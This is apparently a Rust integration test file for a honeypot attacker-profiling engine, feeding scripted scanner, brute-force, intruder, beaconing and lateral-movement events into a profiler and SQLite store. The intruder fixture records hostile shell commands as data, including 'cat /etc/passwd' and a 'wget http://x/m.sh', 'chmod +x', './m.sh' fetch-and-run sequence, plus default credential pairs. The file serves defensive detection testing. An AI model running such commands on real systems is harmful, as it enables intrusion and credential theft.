//! Scripted attacker event streams through the engine and through the profiler worker on a
//! real SQLite store: sessions, attacker rows, classes, scores, traversals, identities, and a
//! restart mid-stream that must end in the same rows as an uninterrupted run.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::net::IpAddr;

use decnet_intel::{Config, Profiler, worker::Worker};
use decnet_store::{
    Event, Severity,
    repo::{Repository, SqlRepository},
};

const S: i64 = 1_000_000_000;
const T0: i64 = 1_780_000_000 * S;

fn ev(ts: i64, ip: &str, decky: &str, service: &str, kind: &str, fields: &[(&str, &str)]) -> Event {
    let mut e = Event::new(T0 + ts, decky, service, kind, Severity::Info);
    e.src_ip = Some(ip.parse::<IpAddr>().unwrap());
    e.src_port = Some(40_000);
    e.dst_port = Some(match service {
        "ssh" => 22,
        "http" => 80,
        "ftp" => 21,
        "telnet" => 23,
        "mysql" => 3306,
        "redis" => 6379,
        _ => 9,
    });
    for (k, v) in fields {
        e.push_field(k, v).unwrap();
    }
    e
}

/// Seconds (fractional) to nanoseconds.
#[allow(clippy::cast_possible_truncation)]
fn secs(s: f64) -> i64 {
    (s * 1e9) as i64
}

const SCANNER: &str = "198.51.100.1";
const BRUTE: &str = "198.51.100.2";
const INTRUDER: &str = "198.51.100.3";
const BEACON: &str = "198.51.100.4";
const LATERAL: &str = "198.51.100.5";
const ACTOR_A: &str = "198.51.100.6";
const ACTOR_B: &str = "203.0.113.7";
const WORDLIST_A: &str = "198.51.100.8";
const WORDLIST_B: &str = "203.0.113.9";
const OTHER: &str = "203.0.113.10";
const SLEEPER: &str = "198.51.100.11";

fn scanner() -> Vec<Event> {
    let mut out = Vec::new();
    for (i, svc) in ["ftp", "ssh", "telnet", "http", "mysql", "redis"]
        .iter()
        .enumerate()
    {
        let t = secs(0.2 * i as f64);
        let mut syn = ev(
            t,
            SCANNER,
            "decky-a",
            "sniffer",
            "tcp_syn_fingerprint",
            &[
                ("ttl", "52"),
                ("window", "1024"),
                ("options_sig", "M"),
                ("hop_distance", "12"),
                ("os_guess", "nmap"),
            ],
        );
        syn.dst_port = None;
        out.push(syn);
        out.push(ev(t + secs(0.05), SCANNER, "decky-a", svc, "connect", &[]));
    }
    out.push(ev(
        secs(1.3),
        SCANNER,
        "decky-a",
        "http",
        "request",
        &[
            ("method", "GET"),
            ("path", "/nmaplowercheck1"),
            (
                "headers",
                r#"{"User-Agent":"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}"#,
            ),
        ],
    ));
    out
}

fn brute_force() -> Vec<Event> {
    let mut out = Vec::new();
    for i in 0..20 {
        let pw = format!("pass{i}");
        out.push(ev(
            100 * S + secs(1.5 * f64::from(i)),
            BRUTE,
            "decky-a",
            "ssh",
            "auth_attempt",
            &[
                ("username", "root"),
                ("password", &pw),
                ("success", "false"),
            ],
        ));
    }
    out
}

/// Two bursts ten minutes apart (past the 300 s gap): two sessions.
fn sleeper() -> Vec<Event> {
    [0, 5, 9, 600, 604]
        .iter()
        .map(|t| {
            ev(
                4000 * S + t * S,
                SLEEPER,
                "decky-c",
                "telnet",
                "command",
                &[("cmd", &format!("echo {t}"))],
            )
        })
        .collect()
}

fn intruder() -> Vec<Event> {
    let mut out = vec![ev(
        200 * S,
        INTRUDER,
        "decky-b",
        "ssh",
        "auth_attempt",
        &[
            ("username", "root"),
            ("password", "toor"),
            ("success", "true"),
        ],
    )];
    let cmds = [
        "uname -a",
        "id",
        "cat /etc/passwd",
        "ls -la /tmp",
        "cd /tmp",
        "wget http://x/m.sh",
        "chmod +x m.sh",
        "./m.sh",
    ];
    let gaps = [0.3, 4.0, 0.5, 8.0, 0.2, 3.0, 1.0, 6.0];
    let mut t = 200.0;
    for (c, g) in cmds.iter().zip(gaps) {
        t += g;
        out.push(ev(
            secs(t),
            INTRUDER,
            "decky-b",
            "ssh",
            "command",
            &[("cmd", c)],
        ));
    }
    out.push(ev(
        secs(t + 0.4),
        INTRUDER,
        "decky-b",
        "ssh",
        "upload",
        &[
            ("path", "/tmp/m.sh"),
            ("size", "2048"),
            ("sha256", &"ab".repeat(32)),
        ],
    ));
    out
}

fn beacon() -> Vec<Event> {
    let mut out = Vec::new();
    let mut t = 1000 * S;
    for i in 0..11 {
        out.push(ev(
            t,
            BEACON,
            "decky-c",
            "http",
            "request",
            &[
                ("method", "POST"),
                ("path", "/submit.php"),
                (
                    "headers",
                    r#"{"User-Agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}"#,
                ),
            ],
        ));
        // 60 s ± 20 % jitter.
        t += if i % 2 == 0 { 48 * S } else { 72 * S };
    }
    out
}

fn lateral() -> Vec<Event> {
    let mut out = Vec::new();
    for (i, decky) in ["decky-a", "decky-b", "decky-c"].iter().enumerate() {
        let base = 2000 * S + i64::try_from(i).unwrap() * 90 * S;
        out.push(ev(
            base,
            LATERAL,
            decky,
            "ssh",
            "auth_attempt",
            &[
                ("username", "svc"),
                ("password", "Winter2026!"),
                ("success", "true"),
            ],
        ));
        out.push(ev(
            base + 20 * S,
            LATERAL,
            decky,
            "ssh",
            "command",
            &[("cmd", "hostname")],
        ));
        out.push(ev(
            base + 40 * S,
            LATERAL,
            decky,
            "ssh",
            "command",
            &[("cmd", "ip neigh")],
        ));
    }
    out
}

fn identities() -> Vec<Event> {
    let mut out = Vec::new();
    for (i, (ip, hassh)) in [
        (ACTOR_A, "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
        (ACTOR_B, "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
        (OTHER, "0df0d56bb50c6b2426d8d40234bf1826"),
    ]
    .iter()
    .enumerate()
    {
        let t = 3000 * S + i64::try_from(i).unwrap() * 500 * S;
        out.push(ev(
            t,
            ip,
            "decky-a",
            "sniffer",
            "tls_client_hello",
            &[
                ("ja3", "e7d705a3286e19ea42f587b344ee6865"),
                ("ja4", "t13d1516h2_8daaf6152771_02713d6af862"),
                ("sni", "decky-a"),
            ],
        ));
        out.push(ev(
            t + S,
            ip,
            "decky-a",
            "ssh",
            "ssh_client",
            &[
                ("client_banner", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"),
                ("hassh", hassh),
            ],
        ));
    }
    for (i, ip) in [WORDLIST_A, WORDLIST_B].iter().enumerate() {
        let t = 5000 * S + i64::try_from(i).unwrap() * 700 * S;
        for (j, (u, p)) in [
            ("root", "123456"),
            ("admin", "admin"),
            ("pi", "raspberry"),
            ("root", "toor"),
        ]
        .iter()
        .enumerate()
        {
            out.push(ev(
                t + i64::try_from(j).unwrap() * 2 * S,
                ip,
                "decky-b",
                "telnet",
                "auth_attempt",
                &[("username", u), ("password", p), ("success", "false")],
            ));
        }
    }
    out
}

fn all_events() -> Vec<Event> {
    let mut all: Vec<Event> = [
        scanner(),
        brute_force(),
        intruder(),
        beacon(),
        lateral(),
        identities(),
        sleeper(),
    ]
    .into_iter()
    .flatten()
    .collect();
    all.sort_by_key(|e| e.ts_ns);
    all
}

fn run_engine(events: &[Event]) -> Profiler {
    let mut p = Profiler::new(Config::default());
    for e in events {
        p.feed(e);
    }
    p
}

/// A batch knows how many bounty bytes it holds (the worker commits early on them), and a
/// commit or a discard frees them.
#[test]
fn pending_bounty_bytes_follow_the_bounties_held() {
    let mut p = Profiler::new(Config::default());
    for i in 0..10 {
        let pw = format!("{i}{}", "x".repeat(4000));
        p.feed(&ev(
            i,
            BRUTE,
            "decky-a",
            "ssh",
            "auth_attempt",
            &[("username", "root"), ("password", &pw)],
        ));
    }
    assert!(
        p.pending_bounty_bytes() >= 40_000,
        "{}",
        p.pending_bounty_bytes()
    );
    let changes = p.take_changes().unwrap();
    assert_eq!(changes.bounties.len(), 10);
    assert_eq!(p.pending_bounty_bytes(), 0);
    p.feed(&ev(
        20,
        BRUTE,
        "decky-a",
        "ssh",
        "auth_attempt",
        &[("username", "root"), ("password", "other")],
    ));
    assert!(p.pending_bounty_bytes() > 0);
    p.discard_changes();
    assert_eq!(p.pending_bounty_bytes(), 0);
}

#[test]
fn scanner_is_classified_with_tools_and_os() {
    let p = run_engine(&all_events());
    let a = p.attacker(SCANNER).unwrap();
    assert_eq!(a.classification().class, "scanning");
    assert_eq!(a.services.len(), 6);
    let tools = a.tool_guesses();
    assert!(tools.contains(&"nmap".to_owned()), "{tools:?}");
    assert_eq!(a.os_guess().as_deref(), Some("nmap"));
    // 5 (seen) + 10 (recon breadth)
    assert_eq!(a.score(), 15);
}

#[test]
fn brute_force_has_credentials_in_order_and_sessions_end_on_inactivity() {
    let mut p = run_engine(&all_events());
    let a = p.attacker(BRUTE).unwrap();
    assert_eq!(a.classification().class, "brute_force");
    assert_eq!(a.credential_count, 20);
    // 5 (seen) + 15 (auth attempted)
    assert_eq!(a.score(), 20);
    let changes = p.take_changes().unwrap();
    let brute: Vec<_> = changes
        .sessions
        .iter()
        .filter(|s| s.attacker_ip == BRUTE)
        .collect();
    assert_eq!(brute.len(), 1);
    assert_eq!(brute[0].event_count, 20);
    assert!(brute[0].closed, "later events moved the clock past the gap");
    let creds: Vec<serde_json::Value> = serde_json::from_str(&brute[0].credentials).unwrap();
    let pw: Vec<&str> = creds
        .iter()
        .map(|c| c["secret"].as_str().unwrap())
        .collect();
    assert_eq!(pw[..3], ["pass0", "pass1", "pass2"]);
    assert_eq!(pw.len(), 20);
    assert_eq!(
        changes
            .bounties
            .iter()
            .filter(|b| b.attacker_ip == BRUTE)
            .count(),
        20
    );

    let mut sleeper: Vec<_> = changes
        .sessions
        .iter()
        .filter(|s| s.attacker_ip == SLEEPER)
        .collect();
    sleeper.sort_by_key(|s| s.start_ns);
    assert_eq!(sleeper.len(), 2, "{sleeper:?}");
    assert!(sleeper[0].closed);
    assert_eq!(sleeper[0].event_count, 3);
    assert_eq!(sleeper[1].event_count, 2);
    let cmds: Vec<String> = serde_json::from_str(&sleeper[1].commands).unwrap();
    assert_eq!(cmds, ["echo 600", "echo 604"]);
}

#[test]
fn interactive_intruder_runs_commands_and_uploads() {
    let mut p = run_engine(&all_events());
    let a = p.attacker(INTRUDER).unwrap();
    assert_eq!(a.classification().class, "interactive");
    assert_eq!(a.command_count, 8);
    assert_eq!(a.commands[0].command, "uname -a");
    // 5 + 15 (auth) + 15 (authenticated) + 15 (commands) + 15 (upload)
    assert_eq!(a.score(), 65);
    let phases: Vec<&str> = a.phases.iter().map(|p| p.phase.as_str()).collect();
    assert_eq!(
        phases,
        [
            "reconnaissance",
            "credential_access",
            "initial_access",
            "execution",
            "installation"
        ]
    );
    let changes = p.take_changes().unwrap();
    let s: Vec<_> = changes
        .sessions
        .iter()
        .filter(|s| s.attacker_ip == INTRUDER)
        .collect();
    assert_eq!(s.len(), 1);
    assert!(s[0].auth_success);
    let cmds: Vec<String> = serde_json::from_str(&s[0].commands).unwrap();
    assert_eq!(cmds.len(), 8);
    assert_eq!(cmds[7], "./m.sh");
    assert!(changes.bounties.iter().any(|b| b.attacker_ip == INTRUDER
        && b.bounty_type == "artifact"
        && b.payload.contains(&"ab".repeat(32))));
}

#[test]
fn beacon_at_sixty_seconds_with_jitter_is_cobalt_strike_like() {
    let p = run_engine(&all_events());
    let a = p.attacker(BEACON).unwrap();
    let c = a.classification();
    assert_eq!(c.class, "beaconing");
    assert!((c.beacon_interval_s.unwrap() - 60.0).abs() < 0.01);
    assert!((c.beacon_jitter_pct.unwrap() - 20.0).abs() < 0.5);
    assert!(a.tool_guesses().contains(&"cobalt_strike".to_owned()));
    // 5 + 10 (beaconing)
    assert_eq!(a.score(), 15);
}

#[test]
fn lateral_movement_is_a_traversal_with_path_and_timing() {
    let p = run_engine(&all_events());
    let t = p.traversals();
    let lat = t.iter().find(|t| t.attacker_ip == LATERAL).unwrap();
    assert_eq!(lat.path, "decky-a → decky-b → decky-c");
    assert_eq!(lat.decky_count, 3);
    assert_eq!(lat.hop_count, 9);
    assert!((lat.duration_s - 220.0).abs() < 1e-9);
    // The scanner, beaconer and the others stayed on one decky (sniffer events included).
    assert!(t.iter().all(|t| t.attacker_ip == LATERAL), "{t:?}");
    let a = p.attacker(LATERAL).unwrap();
    // 5 + 15 + 15 + 15 (commands) + 10 (≥2 deckies) + 5 (≥3 deckies)
    assert_eq!(a.score(), 65);
}

#[test]
fn one_actor_on_two_ips_is_linked() {
    let p = run_engine(&all_events());
    let groups: Vec<Vec<String>> = p.identities().into_iter().map(|(_, ips)| ips).collect();
    assert!(
        groups.contains(&vec![ACTOR_B.to_owned(), ACTOR_A.to_owned()])
            || groups.contains(&vec![ACTOR_A.to_owned(), ACTOR_B.to_owned()]),
        "{groups:?}"
    );
    assert!(
        groups
            .iter()
            .any(|g| g.contains(&WORDLIST_A.to_owned()) && g.contains(&WORDLIST_B.to_owned())),
        "{groups:?}"
    );
    assert!(
        groups.iter().all(|g| !g.contains(&OTHER.to_owned())),
        "{groups:?}"
    );
    assert_eq!(groups.len(), 2);
}

async fn store_with(events: &[Event], dir: &tempfile::TempDir) -> SqlRepository {
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("i.db").display());
    let repo = SqlRepository::connect(&url).await.unwrap();
    let rows: Vec<(u64, Event)> = events
        .iter()
        .cloned()
        .enumerate()
        .map(|(i, e)| (i as u64, e))
        .collect();
    repo.insert_segment(1, &rows).await.unwrap();
    repo
}

async fn snapshot(
    repo: &SqlRepository,
) -> (
    Vec<decnet_store::repo::Attacker>,
    Vec<decnet_store::repo::SessionRow>,
    i64,
    Vec<decnet_store::repo::IdentityGroup>,
    Vec<decnet_store::repo::BehaviorRow>,
) {
    let attackers = repo
        .attackers(None, None, "first_seen", 1000, 0)
        .await
        .unwrap();
    let sessions = repo.sessions(None, 1000, 0).await.unwrap();
    let bounties = repo.count_bounties(None, None).await.unwrap();
    let ids = repo.identity_groups().await.unwrap();
    let mut behaviors = Vec::new();
    for a in &attackers {
        behaviors.push(repo.behavior(&a.uuid).await.unwrap().unwrap());
    }
    (attackers, sessions, bounties, ids, behaviors)
}

#[tokio::test]
async fn profiler_worker_writes_the_store_and_survives_a_restart() {
    let events = all_events();

    // Uninterrupted run.
    let dir_a = tempfile::tempdir().unwrap();
    let repo_a = store_with(&events, &dir_a).await;
    let mut w = Worker::open(repo_a.clone(), Config::default(), 10_000)
        .await
        .unwrap();
    assert_eq!(w.run_until_idle().await.unwrap(), events.len() as u64);
    let a = snapshot(&repo_a).await;

    // Stopped mid-stream (small batches, several stops), restarted each time from the store.
    let dir_b = tempfile::tempdir().unwrap();
    let repo_b = store_with(&events, &dir_b).await;
    for _ in 0..4 {
        let mut w = Worker::open(repo_b.clone(), Config::default(), 7)
            .await
            .unwrap();
        for _ in 0..5 {
            w.step().await.unwrap();
        }
        drop(w);
    }
    let mut w = Worker::open(repo_b.clone(), Config::default(), 7)
        .await
        .unwrap();
    assert!(w.cursor() > 0);
    w.run_until_idle().await.unwrap();
    let b = snapshot(&repo_b).await;

    assert_eq!(a.0, b.0, "attacker rows differ after restarts");
    assert_eq!(a.1, b.1, "sessions differ after restarts");
    assert_eq!(a.2, b.2, "bounties differ after restarts");
    assert_eq!(a.3, b.3, "identities differ after restarts");
    assert_eq!(a.4, b.4, "behaviour differs after restarts");

    // One pass in many small batches (each committed while the next is profiled) stores the
    // same as one batch.
    let dir_c = tempfile::tempdir().unwrap();
    let repo_c = store_with(&events, &dir_c).await;
    let mut w_c = Worker::open(repo_c.clone(), Config::default(), 3)
        .await
        .unwrap();
    assert_eq!(w_c.run_until_idle().await.unwrap(), events.len() as u64);
    assert_eq!(w_c.cursor(), repo_c.max_event_id().await.unwrap());
    let c = snapshot(&repo_c).await;
    assert_eq!(a.0, c.0, "attacker rows differ with pipelined batches");
    assert_eq!(a.1, c.1, "sessions differ with pipelined batches");
    assert_eq!(a.2, c.2, "bounties differ with pipelined batches");
    assert_eq!(a.3, c.3, "identities differ with pipelined batches");
    assert_eq!(a.4, c.4, "behaviour differs with pipelined batches");

    // With no memory to spare, every written attacker leaves memory after each batch (those
    // with open sessions dormant until the sessions are due to end): the same rows again.
    let dir_d = tempfile::tempdir().unwrap();
    let repo_d = store_with(&events, &dir_d).await;
    let tight = Config {
        max_cached_bytes: 0,
        ..Config::default()
    };
    let mut w_d = Worker::open(repo_d.clone(), tight, 5).await.unwrap();
    assert_eq!(w_d.run_until_idle().await.unwrap(), events.len() as u64);
    assert!(w_d.engine().dormant() > 0, "no attacker was left dormant");
    let d = snapshot(&repo_d).await;
    assert_eq!(
        a.0, d.0,
        "attacker rows differ when evicted after every batch"
    );
    assert_eq!(a.1, d.1, "sessions differ when evicted after every batch");
    assert_eq!(a.2, d.2, "bounties differ when evicted after every batch");
    assert_eq!(a.3, d.3, "identities differ when evicted after every batch");
    assert_eq!(a.4, d.4, "behaviour differs when evicted after every batch");

    // And the stored rows say what the scenarios say.
    let lateral = repo_a.attacker_by_ip(LATERAL).await.unwrap().unwrap();
    assert!(lateral.is_traversal);
    assert_eq!(lateral.traversal_path, "decky-a → decky-b → decky-c");
    assert_eq!(lateral.score, 65);
    let beacon = repo_a.attacker_by_ip(BEACON).await.unwrap().unwrap();
    let bb = repo_a.behavior(&beacon.uuid).await.unwrap().unwrap();
    assert_eq!(bb.behavior_class, "beaconing");
    assert!(bb.tool_guesses.contains("cobalt_strike"));
    let brute = repo_a.attacker_by_ip(BRUTE).await.unwrap().unwrap();
    assert_eq!(brute.credential_count, 20);
    assert_eq!(
        repo_a.sessions(Some(SLEEPER), 10, 0).await.unwrap().len(),
        2
    );
    assert_eq!(a.3.len(), 2, "{:?}", a.3);
    assert_eq!(a.0.len(), 11);

    // Nothing new: a further pass changes nothing.
    assert_eq!(w.run_until_idle().await.unwrap(), 0);
    assert_eq!(snapshot(&repo_b).await.0, b.0);
}
